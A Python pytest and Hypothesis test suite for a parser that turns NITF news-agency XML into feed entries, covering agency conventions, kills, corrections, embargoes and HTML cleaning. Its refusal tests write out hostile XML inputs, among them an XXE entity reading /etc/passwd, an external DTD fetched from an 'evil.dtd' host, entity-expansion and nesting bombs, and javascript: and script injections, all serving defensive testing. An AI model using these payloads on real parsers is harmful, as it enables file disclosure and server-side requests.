"""NITF in, entries out: the fields of the standard, the ways of six agencies, and documents that are none."""

import re
from datetime import UTC, datetime
from html import escape
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import FormatError
from bot.formats import parsing
from bot.formats.detect import Format, detect
from bot.model import Document, Enclosure, Entry, Subject, Wire

ITEMS = Path(__file__).parent.parent / "data" / "formats" / "nitf"
BODY = "<body.content><p>A ferry ran aground.</p></body.content>"


def document(content: str | bytes) -> Document:
    return Document(
        source="desk",
        location="in/ferry.xml",
        content=content.encode() if isinstance(content, str) else content,
        arrived=datetime(2031, 3, 12, 12, tzinfo=UTC),
    )


def parsed(content: str | bytes) -> tuple[Entry, ...]:
    return parsing.parse(document(content)).entries


def read(content: str | bytes) -> Entry:
    (entry,) = parsed(content)
    return entry


def item(name: str) -> Entry:
    return read((ITEMS / f"{name}.xml").read_bytes())


def made(head: str = "", top: str = "", body: str = BODY) -> Entry:
    return read(nitf(head, top, body))


def nitf(head: str = "", top: str = "", body: str = BODY) -> str:
    return f"<nitf><head>{head}</head><body><body.head>{top}</body.head>{body}</body></nitf>"


def said(head: str = "", top: str = "", body: str = BODY) -> Wire:
    wire = made(head, top, body).wire
    assert wire is not None
    return wire


def wire_of(name: str) -> Wire:
    wire = item(name).wire
    assert wire is not None
    return wire


def written(content: str) -> str:
    return made(body=f"<body.content>{content}</body.content>").body


def headline(text: str) -> str:
    return f"<hedline><hl1>{text}</hl1></hedline>"


def refusal(content: str | bytes) -> str:
    with pytest.raises(FormatError) as refused:
        parsed(content)
    return str(refused.value)


# The standard


def test_every_field_beside_the_text_is_read():
    entry = item("standard")

    assert entry.key == entry.id == "nw-2031-0417"
    assert entry.url == "https://northwire.example/ferry"
    assert entry.title == "Ferry with 212 aboard runs aground off Port Merrow"
    assert entry.summary == "<p>A ferry ran aground; nobody was hurt.</p>"
    assert entry.body_type == "html"
    assert entry.published == datetime(2031, 3, 12, 8, 15, tzinfo=UTC)
    assert entry.updated == datetime(2031, 3, 12, 8, 45, tzinfo=UTC)
    assert entry.authors == ("Mara Ostrey", "Jonas Veld")
    assert entry.publisher == "Northwire"
    assert entry.language == "en-GB"
    assert entry.categories == (
        "Maritime accident", "Transport", "Merrow Coastguard", "Port Merrow", "Analysis", "Coast", "ferry", "harbour", "tide",
    )  # fmt: skip


def test_everything_an_agency_says_of_its_item_is_read():
    assert wire_of("standard") == Wire(
        item="nw-2031-0417",
        version=1003,
        status="usable",
        embargo=datetime(2031, 3, 12, 10, tzinfo=UTC),
        slug="MERROW-FERRY",
        dateline="Port Merrow, Westmark",
        credit="Northwire",
        copyright="2031 Northwire",
        urgency=2,
        note="Eds: adds details in paragraph 3.\nPunched up.\nPictures to follow.\nNot for Kell papers.",
        subjects=(
            Subject(name="Maritime accident", code="03010003"),
            Subject(name="Transport", code="04015000"),
            Subject(name="", code="17000000"),
            Subject(name="Merrow Coastguard", code="northwire.example:mc"),
            Subject(name="", code="desk:coast"),
            Subject(name="Port Merrow"),
        ),
    )


def test_text_is_simple_html_with_paragraphs_quotes_lists_and_tables():
    assert item("standard").body == (
        "<p>A ferry carrying 212 people ran aground &amp; began to <em>list</em> on Monday, the Merrow Coastguard said.</p>"
        "<h2>“No panic”</h2>"
        "<blockquote><p>Nobody shouted.</p><p>Ida Lund, passenger</p></blockquote>"
        '<p>She said: “We sang.” See <a href="https://coast.example/log?a=1&amp;b=2">the log</a> or the desk;'
        " <strong>212</strong> of 3/4, H<sub>2</sub>O, a &lt;b&gt;</p>"
        "<ul><li>One tug</li><li><p>Two boats</p></li></ul><ol><li>First</li></ol><dl><dt>Tide</dt><dd>High</dd></dl>"
        "<hr><pre>MERROW   1  0\nKELL     0  2</pre>"
        '<table><caption>Tides</caption><thead><tr><th colspan="2">Port</th></tr></thead>'
        "<tbody><tr><td>Merrow</td><td></td></tr></tbody></table>"
        "<p>Kell is 30 km north.</p><p>Ida Berg in Kell contributed.</p><p>Harbour log, 2031.</p>"
    )


def test_pictures_with_a_url_are_enclosures():
    assert item("standard").enclosures == (
        Enclosure(url="https://pictures.example/ferry.jpg", media_type="image/jpeg", width=1200, height=800),
    )


def test_what_a_picture_claims_to_be_is_kept_only_if_it_can_be():
    reference = (
        '<media-reference mime-type="jpeg" source="https://p.example/1" width="wide" height="99999999999999999"/>'
    )

    (picture,) = made(body=f"<body.content><p>A</p><media>{reference}</media></body.content>").enclosures

    assert picture == Enclosure(url="https://p.example/1")


# Agencies


def test_ap_has_no_id_a_former_headline_and_the_beginning_as_abstract():
    entry, wire = item("ap"), wire_of("ap")

    assert (entry.key, entry.id, wire.item) == ("in/ferry.xml", None, None)
    assert entry.summary == ""
    assert entry.authors == ("MARA OSTREY", "JONAS VELD")
    assert (entry.publisher, wire.credit, wire.copyright) == ("The Associated Press", "The Associated Press", "2031 AP")
    assert wire.dateline == "PORT MERROW, Westmark"
    assert wire.is_correction
    assert wire.subjects == (Subject(name="", code="apcategorycode:i"),)


def test_ap_without_an_abstract_has_no_summary():
    content = (ITEMS / "ap.xml").read_bytes()
    start, end = content.index(b"<abstract>"), content.index(b"</abstract>") + len(b"</abstract>")

    assert read(content[:start] + content[end:]).summary == ""


def test_aap_has_its_slug_in_a_meta_and_breaks_its_lines():
    entry, wire = item("aap"), wire_of("aap")

    assert wire.slug == "Merrow Ferry"
    assert wire.embargo is None
    assert (wire.credit, wire.dateline, wire.urgency) == ("AAP", "Kell", 5)
    assert entry.body.endswith("has run <br>aground.</p><p>AAP mo/jv</p>")
    assert entry.categories == ("maritime",)


def test_pa_counts_versions_in_its_id_and_has_its_slug_for_a_title():
    entry, wire = item("pa"), wire_of("pa")

    assert entry.key == wire.item == "0d9c41aa-70b2-4c55-9e1f-3ab7d2208e61HHH"
    assert entry.id == "0d9c41aa-70b2-4c55-9e1f-3ab7d2208e61HHH-13-1"
    assert wire.version == 13
    assert wire.slug == "TRANSPORT Ferry"
    assert wire.embargo == datetime(2031, 9, 8, 23, 1, tzinfo=UTC)
    assert wire.note == "(see also HARBOUR Tide) Embargoed to 0001 Tuesday September 9"
    assert entry.title == "FERRY FARES 'TO RISE BY £30', CHIEF WARNS"
    assert entry.summary == ""
    assert entry.authors == ("Mara Ostrey",)


def test_parts_of_an_item_of_pa_are_items_of_their_own():
    second = (ITEMS / "pa.xml").read_bytes().replace(b"HHH-13-1", b"HHH-13-2")

    assert read(second).key == "0d9c41aa-70b2-4c55-9e1f-3ab7d2208e61HHH-2"


def test_pa_without_a_headline_has_its_title_without_the_number():
    content = (ITEMS / "pa.xml").read_bytes()
    start, end = content.index(b"<hedline>"), content.index(b"</hedline>") + len(b"</hedline>")

    assert read(content[:start] + content[end:]).title == "TRANSPORT Ferry"


def test_efe_has_its_slug_as_keyword_and_initials_for_a_byline():
    entry, wire = item("efe"), wire_of("efe")

    assert wire.slug == "MERROW TRANSBORDADOR"
    assert entry.authors == ()
    assert entry.summary == ""
    assert (entry.language, wire.credit, wire.dateline) == ("es-ES", "Agencia EFE", None)
    assert [subject.code for subject in wire.subjects] == ["03010003", "C03001000"]
    assert entry.categories == ("Maritime accident", "ACCIDENTES")


def test_ntb_has_the_id_of_all_versions_in_a_meta():
    entry, wire = item("ntb"), wire_of("ntb")

    assert (entry.key, entry.id, wire.version) == ("NTB7f3e", "NTB7f3e_02", 3)
    assert wire.slug == "ferge-grunnstøting"
    assert (wire.credit, entry.publisher, wire.dateline, wire.urgency) == ("Ritzau", "NTB", "Merrøy", 3)
    assert wire.is_correction
    assert entry.authors == ("Mara Østrey",)
    assert entry.body.startswith("<p>En ferge med 212 personer gikk mandag på grunn.</p><h2>– Ingen panikk</h2>")
    assert entry.enclosures == ()


def test_ntb_without_that_meta_has_it_in_its_document_id():
    entry = made('<docdata><doc-id regsrc="NTB" id-string="NTB7f3e_02"/></docdata>')

    assert entry.key == "NTB7f3e"


def test_cp_has_parts_of_docdata_in_the_head_and_dates_that_are_none():
    entry, wire = item("cp"), wire_of("cp")

    assert (wire.slug, wire.urgency, wire.dateline) == ("Ferry-Aground", 2, "Kell, Westmark")
    assert wire.note == "ADDS coastguard statement"
    assert wire.embargo is None
    assert entry.updated == datetime(2031, 3, 12, 21, 1, 36, tzinfo=UTC)
    assert entry.authors == ("Mara Ostrey", "Jonas Veld")
    assert entry.categories == ("National", "Transport")
    assert entry.summary == ""


# Versions, status, embargo


@pytest.mark.parametrize(
    "attributes, version",
    [
        ('version="04"', 4),
        ('generation="7"', 7),
        ('generation="1" version="5"', 5),
        ('generation="2" version="0"', 1000),
        ('generation="0" version="2"', 2),
        ('version="99999999999"', 2**31 - 1),
        ('generation="4000000" version="1"', 2**31 - 1),
        ('version="two"', None),
        ('version="²"', None),
        ("", None),
    ],
)
def test_version_is_that_of_the_use_key(attributes: str, version: int | None):
    assert said(f'<docdata><du-key key="FERRY" {attributes}/></docdata>').version == version


@pytest.mark.parametrize(
    "claimed, status",
    [("usable", "usable"), ("Canceled", "canceled"), ("withheld", "withheld"), ("", "usable"), ("odd", "usable")],
)
def test_status_is_the_management_status(claimed: str, status: str):
    assert said(f'<docdata management-status="{claimed}"/>').status == status


@pytest.mark.parametrize("name", ["pubstatus", "publishing-status", "Status"])
def test_status_may_be_in_a_meta(name: str):
    assert said(f'<meta name="{name}" content="canceled"/>').status == "canceled"


def test_a_kill_needs_no_text():
    entry = made('<docdata management-status="canceled"><doc-id id-string="nw-1"/></docdata>', body="")

    assert (entry.key, entry.title, entry.body) == ("nw-1", "", "")
    assert entry.wire is not None
    assert entry.wire.status == "canceled"


@pytest.mark.parametrize(
    "head, top",
    [
        ("", headline("KILL: Ferry runs aground")),
        ("", headline("BULLETIN KILL")),
        ("", headline("WITHDRAWN-Ferry runs aground")),
        ("", headline("ANULADA: Encalla un transbordador")),
        ('<docdata><ed-msg info="Eds: KILL: the captain denies it"/></docdata>', headline("Ferry")),
        ('<docdata><ed-msg info="Editors: Please kill the AP story slugged Ferry"/></docdata>', headline("Ferry")),
        ('<docdata><ed-msg info="Not true" msg-type="kill"/></docdata>', headline("Ferry")),
        ('<docdata><du-key key="KILL"/></docdata>', headline("Ferry")),
    ],
)
def test_a_kill_is_one_whatever_its_status_says(head: str, top: str):
    assert said(f'<docdata management-status="usable"/>{head}', top).status == "canceled"


@pytest.mark.parametrize(
    "title",
    ["Kill the bill, crowds shout", "KILL-SWITCH LAW PASSED", "Killed in action: three names", "Ferry kill rate falls"],
)
def test_headlines_with_the_word_are_no_kills(title: str):
    assert said(top=headline(title)).status == "usable"


@pytest.mark.parametrize(
    "head, top",
    [
        ('<docdata><correction info="captain is Lund, not Land"/></docdata>', ""),
        ('<docdata><ed-msg info="CORRECTS spelling of Lund"/></docdata>', ""),
        ('<docdata><ed-msg info="Lund, not Land" msg-type="correction"/></docdata>', ""),
        ('<docdata><du-key key="FERRY-CORRECTION"/></docdata>', ""),
        ('<meta name="correction" content="yes"/>', ""),
        ('<revision-history comment="Corrects the captain"/>', ""),
        ("", headline("CORRECTION: Ferry runs aground")),
        ("", headline("AP Correction: Ferry")),
        ("", headline("CORRECTED-Ferry runs aground")),
        ("", headline("Berichtigung: Fähre auf Grund")),
        ("", headline("(Corrección) Encalla un transbordador")),
    ],
)
def test_corrections_are_known_by_the_sign_that_agencies_put(head: str, top: str):
    assert said(head, top).is_correction


@pytest.mark.parametrize(
    "title",
    [
        "Corrections officer: no comment",
        "Prison corrections cost more",
        "Corrective-action plan for ferries",
        "Harbour errs, corrections come next week",
        "Ferry aground",
    ],
)
def test_headlines_about_corrections_are_none(title: str):
    assert not said('<meta name="correction" content="false"/>', headline(title)).is_correction


def test_a_correction_stands_in_the_place_of_what_it_corrects():
    correction = '<correction id-string="nw-1" info="captain is Lund"/><du-key version="1"/>'
    entry = made(f'<docdata><doc-id id-string="nw-2"/>{correction}</docdata>')

    assert (entry.key, entry.id) == ("nw-1", "nw-2")
    assert entry.wire is not None
    assert (entry.wire.item, entry.wire.version, entry.wire.note) == ("nw-1", None, "captain is Lund")


def test_an_update_of_another_document_stands_in_its_place():
    docdata = '<docdata management-status="usable" management-doc-idref="nw-1"><doc-id id-string="nw-2"/></docdata>'

    assert made(docdata).key == "nw-1"


def test_a_document_that_takes_another_one_back_gives_both():
    reference = 'management-status="usable" management-doc-idref="nw-1" management-idref-status="canceled"'
    dates = '<date.issue norm="20310312T091500Z"/>'
    story, other = parsed(nitf(f'<docdata {reference}><doc-id id-string="nw-2"/>{dates}</docdata>', headline("Ferry")))

    assert (story.key, story.wire and story.wire.status) == ("nw-2", "usable")
    assert (other.key, other.title, other.body, other.updated) == ("nw-1", "", "", story.updated)
    assert other.wire == Wire(item="nw-1", status="canceled")


def test_a_document_of_nothing_but_such_a_reference_gives_the_other_one():
    entry = made('<docdata management-doc-idref="nw-1" management-idref-status="withheld"/>', body="")

    assert (entry.key, entry.wire and entry.wire.status) == ("nw-1", "withheld")


ISSUE, LATER = '<date.issue norm="20310312T090000Z"/>', '<date.release norm="20310313T000100Z"/>'
MIDNIGHT = datetime(2031, 3, 13, 0, 1, tzinfo=UTC)


@pytest.mark.parametrize(
    "status, dates, embargo, expected",
    [
        ("usable", ISSUE + LATER, MIDNIGHT, "usable"),
        ("embargoed", ISSUE + LATER, MIDNIGHT, "usable"),
        ("embargoed", LATER, MIDNIGHT, "usable"),
        ("embargoed", ISSUE + '<date.expire norm="2031-03-13T00:01:00+00:00"/>', MIDNIGHT, "usable"),
        ("embargoed", ISSUE, None, "withheld"),
        ("usable", LATER, None, "usable"),
        ("usable", ISSUE + '<date.release norm="20310312T090000Z"/>', None, "usable"),
        ("usable", ISSUE + '<date.expire norm="20310313T000100Z"/>', None, "usable"),
        ("canceled", ISSUE + LATER, MIDNIGHT, "canceled"),
    ],
)
def test_an_item_waits_until_its_release(status: str, dates: str, embargo: datetime | None, expected: str):
    wire = said(f'<docdata management-status="{status}">{dates}</docdata>')

    assert (wire.embargo, wire.status) == (embargo, expected)


# Times, words and names that may be elsewhere


@pytest.mark.parametrize(
    "head, top",
    [
        ('<docdata><date.issue norm="20310312T100000+0100"/></docdata>', ""),
        ("<docdata><date.issue>2031-03-12T09:00:00Z</date.issue></docdata>", ""),
        ('<docdata><date.release norm="20310312T090000"/></docdata>', ""),
        ('<pubdata date.publication="20310312T090000Z"/>', ""),
        ("", '<dateline><story.date norm="20310312T090000Z">then</story.date></dateline>'),
    ],
)
def test_publication_is_the_issue_or_what_is_nearest_to_it(head: str, top: str):
    entry = made(head, top)

    assert entry.published == entry.updated == datetime(2031, 3, 12, 9, tzinfo=UTC)


def test_the_date_of_the_dtd_is_nobodys_date():
    entry = read(f'<nitf change.date="October 10, 2003" change.time="19:30"><body>{BODY}</body></nitf>')

    assert (entry.published, entry.updated) == (None, None)


@pytest.mark.parametrize(
    "head, slug",
    [
        ('<meta name="Slug" content="meta"/><docdata><du-key key="use"/></docdata>', "meta"),
        ('<docdata><fixture fix-id="fixture"/><du-key key="use"/></docdata>', "use"),
        ('<docdata><fixture fix-id="fixture"/></docdata>', "fixture"),
        ("", None),
    ],
)
def test_slug_is_in_a_meta_the_use_key_or_the_fixture(head: str, slug: str | None):
    assert said(head).slug == slug


@pytest.mark.parametrize(
    "head, top, credit",
    [
        ('<meta name="credit" content="Reuters"/>', "<distributor>Northwire</distributor>", "Reuters"),
        (
            '<docdata><doc-id regsrc="dpa" id-string="1"/></docdata>',
            "<distributor>Northwire</distributor>",
            "Northwire",
        ),
        ('<docdata><doc-id regsrc="dpa" id-string="1"/></docdata>', "", "dpa"),
        ('<docdata><del-list><from-src src-name="AFP"/></del-list></docdata>', "", "AFP"),
        ('<docdata><doc.rights agent="ANSA"/></docdata>', "", "ANSA"),
        ('<docdata><doc.copyright holder="STT"/></docdata>', "", "STT"),
        ("", "<rights><rights.owner>TT</rights.owner></rights>", "TT"),
    ],
)
def test_credit_is_whoever_is_named_best(head: str, top: str, credit: str):
    assert said(head, top).credit == credit


@pytest.mark.parametrize(
    "head, top, body, expected",
    [
        ('<docdata><doc.copyright year="2031" holder="dpa"/></docdata>', "", BODY, "2031 dpa"),
        ("", "<rights>No use in Kell</rights>", BODY, "No use in Kell"),
        ("", "", "<body.content><block><copyrite>© dpa</copyrite><p>A</p></block></body.content>", "© dpa"),
    ],
)
def test_copyright_is_in_docdata_or_with_the_text(head: str, top: str, body: str, expected: str):
    assert said(head, top, body).copyright == expected


@pytest.mark.parametrize(
    "top, dateline",
    [
        ("<dateline>Oslo</dateline>", "Oslo"),
        ("<dateline>KELL, <story.date>March 12</story.date></dateline>", "KELL"),
        ("<dateline><location>KELL (Westmark)</location></dateline>", "KELL (Westmark)"),
        ("<dateline><location><city>Kell</city><country>Westmark</country></location></dateline>", "Kell, Westmark"),
        ("<dateline><location>near <city>Kell</city></location></dateline>", "near Kell"),
        ("<dateline/>", None),
    ],
)
def test_dateline_is_the_place_as_written(top: str, dateline: str | None):
    assert said(top=top).dateline == dateline


@pytest.mark.parametrize(
    "byline, authors",
    [
        ("By Mara Ostrey", ("Mara Ostrey",)),
        ("Von Mara Ostrey und Jonas Veld", ("Mara Ostrey", "Jonas Veld")),
        ("By <person>Mara Ostrey</person><byttl>Editor</byttl>", ("Mara Ostrey",)),
        ("By Mara Ostrey<byttl>Coast Correspondent</byttl>", ("Mara Ostrey",)),
        ("mo/jv", ("mo/jv",)),
        ("", ()),
    ],
)
def test_authors_are_the_people_of_the_byline(byline: str, authors: tuple[str, ...]):
    assert made(top=f"<byline>{byline}</byline>").authors == authors


@pytest.mark.parametrize(
    "content",
    [
        f'<nitf baselang="nb-NO"><body>{BODY}</body></nitf>',
        f'<nitf xml:lang="nb-NO"><body>{BODY}</body></nitf>',
        f'<nitf><body xml:lang="nb-NO">{BODY}</body></nitf>',
        f'<nitf><head><meta name="language" content="nb-NO"/></head><body>{BODY}</body></nitf>',
    ],
)
def test_language_is_as_claimed(content: str):
    assert read(content).language == "nb-NO"


@pytest.mark.parametrize("url", ["ferry.html", "//coast.example/1", "ftp://coast.example/1", "javascript:alert(1)"])
def test_what_is_no_absolute_url_is_no_url(url: str):
    assert made(f'<pubdata ex-ref="{url}"/>').url is None


@pytest.mark.parametrize("urgency, expected", [("1", 1), ("9", 9), ("0", None), ("flash", None), ("", None)])
def test_urgency_is_a_digit(urgency: str, expected: int | None):
    assert said(f'<docdata><urgency ed-urg="{urgency}"/></docdata>').urgency == expected


def test_second_headline_is_the_summary_where_there_is_no_abstract():
    hedline = "<hedline><hl1>Ferry aground</hl1><hl2>All &amp; saved</hl2><hl2>Ferry aground</hl2></hedline>"

    assert made(top=hedline).summary == "<p>All &amp; saved</p>"


def test_abstract_is_the_text_where_there_is_no_other():
    entry = made(top="<abstract>A ferry ran aground.</abstract>", body="<body.content/>")

    assert (entry.body, entry.summary) == ("<p>A ferry ran aground.</p>", "")


@pytest.mark.parametrize("abstract", ["A ferry ran aground.", "A ferry ran …", "<p>A ferry ran...</p>"])
def test_abstract_that_is_the_beginning_of_the_text_is_no_summary(abstract: str):
    assert made(top=f"<abstract>{abstract}</abstract>").summary == ""


def test_note_inside_a_note_is_read_once():
    inner = '<note type="npa"><body.content><p>Hold it.</p></body.content></note>'

    assert (
        said(top=f'<note type="npa"><body.content><p>Wait.</p>{inner}</body.content></note>').note == "Wait. Hold it."
    )


def test_first_of_two_metas_counts():
    assert said('<meta name="slug" content="first"/><meta name="slug" content="second"/>').slug == "first"


def test_head_of_the_body_may_have_no_element_of_its_own():
    top = "<byline>By Mara Ostrey</byline><distributor>dpa</distributor><dateline>Kell</dateline>"
    entry = read(f"<nitf><body>{headline('Ferry')}{top}<p>A ferry ran aground.</p></body></nitf>")

    assert (entry.title, entry.authors, entry.publisher) == ("Ferry", ("Mara Ostrey",), "dpa")
    assert entry.wire is not None
    assert entry.wire.dateline == "Kell"


def test_note_to_editors_as_last_line_is_not_text():
    head = '<docdata><ed-msg info="Pictures to follow."/></docdata>'

    assert made(head, body=f"{BODY}<body.end><tagline>Pictures to follow.</tagline></body.end>").body.count("<p>") == 1


# The text


@pytest.mark.parametrize(
    "content, html",
    [
        ("<p>One</p>\n  <p> Two\n three </p>", "<p>One</p><p>Two three</p>"),
        ("<block><block><p>Deep</p></block></block>", "<p>Deep</p>"),
        ("<block>Bare</block><div>Words</div>", "<p>Bare</p><p>Words</p>"),
        ("<p>A <b>b</b> <i>c</i> <strong>d</strong></p>", "<p>A <strong>b</strong> <em>c</em> <strong>d</strong></p>"),
        ("<h1>One</h1><h4>Two</h4>", "<h2>One</h2><h2>Two</h2>"),
        ("<p>A<script>b()</script><style>c</style></p>", "<p>A</p>"),
        ('<p><a href="javascript:x()">A</a> <a href="mailto:a@b.example">b</a></p>', '<p>A <a href="mailto:a@b.example">b</a></p>'),
        ("<p></p><p> </p><ul><li/></ul><p>A<em/></p>", "<p>A</p>"),
        ("<p>A &lt;script&gt;</p>", "<p>A &lt;script&gt;</p>"),
        ("<p><frac><numer>1</numer><frac-sep>/</frac-sep><denom>2</denom></frac></p>", "<p>1/2</p>"),
        ("<p>One<br/>two</p>", "<p>One<br>two</p>"),
        ("<ul><li>A<ol><li> B </li></ol></li></ul>", "<ul><li>A<ol><li>B</li></ol></li></ul>"),
        ("<p>A <div>b</div> c</p>", "<p>A b c</p>"),
        ("<p><q>«Nei»</q> <q/><q>No</q></p>", "<p>«Nei» “No”</p>"),
        ("<p>The <ruby><rb>word</rb><rt>reading</rt></ruby></p>", "<p>The word</p>"),
        ("<p><foreign>Kept</foreign></p>", "<p>Kept</p>"),
        ("<table><tr><td colspan='2x'>A</td></tr></table>", "<table><tr><td>A</td></tr></table>"),
        ("<block class='lead_paragraph'><p>A</p></block><block class='full_text'><p>A</p><p>B</p></block>", "<p>A</p><p>B</p>"),
        ("One paragraph &amp;\nits end.\n \nAnother.", "<p>One paragraph &amp; its end.</p><p>Another.</p>"),
        ("<![CDATA[<p>Markup as <b>text</b></p>]]>", "<p>Markup as <b>text</b></p>"),
    ],
)  # fmt: skip
def test_text_is_written_as_clean_html(content: str, html: str):
    assert written(content) == html


# What a document may lack, or have in another way


@pytest.mark.parametrize(
    "content",
    [
        f"<nitf><body>{BODY}</body></nitf>",
        "<nitf><body><block><p>A ferry ran aground.</p></block></body></nitf>",
        "<nitf><p>A ferry ran aground.</p></nitf>",
        f"<nitf>{BODY}</nitf>",
        f"<nitf><body><body.head/>{BODY}<body.end/></body></nitf>",
        f'<n:nitf xmlns:n="http://iptc.org/std/NITF/2006-10-18/"><n:body>{BODY}</n:body></n:nitf>',
        "<NITF><BODY><BODY.CONTENT><P>A ferry ran aground.</P></BODY.CONTENT></BODY></NITF>",
        f'<?xml version="1.0"?>\n<!-- desk -->\n<!DOCTYPE nitf SYSTEM "../dtd/nitf-3-2.dtd">\n<nitf><body>{BODY}</body></nitf>',
    ],
)
def test_documents_of_other_shapes_are_read(content: str):
    assert detect(document(content)) is Format.NITF
    entry = read(content)

    assert entry.body == "<p>A ferry ran aground.</p>"
    assert entry.key == "in/ferry.xml"


def test_entities_of_html_are_characters_where_a_dtd_is_named():
    content = '<!DOCTYPE nitf SYSTEM "nitf.dtd">' + nitf(top=headline("&Ouml;l&nbsp;&amp; See"), body=BODY.replace("A ", "&Eacute;t&eacute;<em>&ouml;</em> &unknown; "))  # fmt: skip
    entry = read(content)

    assert entry.title == "Öl & See"
    assert entry.body == "<p>Été<em>ö</em> &amp;unknown; ferry ran aground.</p>"


def test_many_entities_are_read_in_time():
    content = '<!DOCTYPE nitf SYSTEM "nitf.dtd">' + nitf(
        body=f"<body.content><p>{'&nbsp;' * 200_000}a</p></body.content>"
    )

    assert read(content).body.endswith("a</p>")


def test_umlauts_come_through_in_the_declared_encoding():
    content = f'<?xml version="1.0" encoding="ISO-8859-1"?>{nitf(top=headline("Fähre auf Grund"))}'.encode("latin-1")

    assert read(content).title == "Fähre auf Grund"


# What is refused


@pytest.mark.parametrize(
    "content",
    [
        "<nitf/>",
        "<nitf><head/><body/></nitf>",
        nitf('<docdata><doc-id id-string="1"/></docdata>', body="<body.content/>"),
    ],
)
def test_a_document_without_text_is_refused(content: str):
    assert refusal(content).startswith("in/ferry.xml: no text: an NITF document without headline and body")


def test_half_a_document_is_refused():
    content = (ITEMS / "standard.xml").read_bytes()

    assert "is not well-formed XML" in refusal(content[: len(content) * 2 // 3])


@pytest.mark.parametrize(
    "entity",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd"> %a;',
    ],
)
def test_entities_of_its_own_are_refused(entity: str):
    content = f"<!DOCTYPE nitf [{entity}]>" + nitf(top=headline("&a;"))

    assert "declares entities of its own" in refusal(content)


@pytest.mark.parametrize(
    "body",
    ["<p>a</p>" * 160_000, "<p>" * 6000 + "</p>" * 6000, "<p " + " ".join(f"a{n}='1'" for n in range(600)) + "/>"],
)
def test_bombs_are_refused(body: str):
    assert refusal(nitf(body=f"<body.content>{body}</body.content>"))


def outcome(content: bytes) -> tuple[Entry, ...] | str:
    """Return the entries, or the line that says why there are none."""
    try:
        return parsed(content)
    except FormatError as error:
        return str(error)


def assert_is_fair(found: tuple[Entry, ...] | str) -> None:
    if isinstance(found, str):
        assert found.startswith("in/ferry.xml: ")
        assert "\n" not in found
    else:
        assert found
        assert len({entry.key for entry in found}) == len(found)


@given(st.binary(max_size=300))
def test_any_bytes_behind_the_root_give_entries_or_one_error(rest: bytes):
    assert_is_fair(outcome(b"<nitf" + rest))


FIXTURES = sorted(path.read_bytes() for path in ITEMS.glob("*.xml"))
PIECES = st.sampled_from(
    (b"<nitf>", b"</p>", b"<br/>", b"&nbsp;", b"&#x0;", b"<![CDATA[", b'norm="', b"\xff", b"\0", b"KILL:", b"9" * 30)
)
DAMAGES = st.tuples(st.integers(0, 6000), st.integers(0, 40), PIECES | st.binary(max_size=4))


@given(st.sampled_from(FIXTURES), st.lists(DAMAGES, max_size=4))
def test_damaged_items_give_entries_or_one_error(content: bytes, damages: list[tuple[int, int, bytes]]):
    for start, length, piece in damages:
        content = content[:start] + piece + content[start + length :]

    assert_is_fair(outcome(content))


TAGS = st.sampled_from(
    "p block bq q em a ul li table tr td pre hl2 note media abstract dateline person hedline hl1 docdata body.content foo".split()
)
WORDS = st.text("a <&é\n", max_size=4).map(escape)
TREES = st.recursive(
    WORDS,
    lambda inside: st.tuples(TAGS, st.lists(inside, max_size=3)).map(
        lambda tree: f"<{tree[0]}>{''.join(tree[1])}</{tree[0]}>"
    ),
    max_leaves=12,
)
TAG = re.compile(r"<(/?)([a-z0-9]+)>")


@given(TREES)
def test_elements_in_any_order_keep_what_is_around_them_and_are_closed(tree: str):
    body = written(f"<p>first</p>{tree}<p>last</p>")

    opened: list[str] = []
    for end, tag in TAG.findall(body):
        if end:
            assert opened.pop() == tag
        else:
            opened.append(tag)
    assert opened == []
    assert "<" not in TAG.sub("", body)
    assert body.startswith("<p>first</p>")
    assert body.endswith("<p>last</p>")
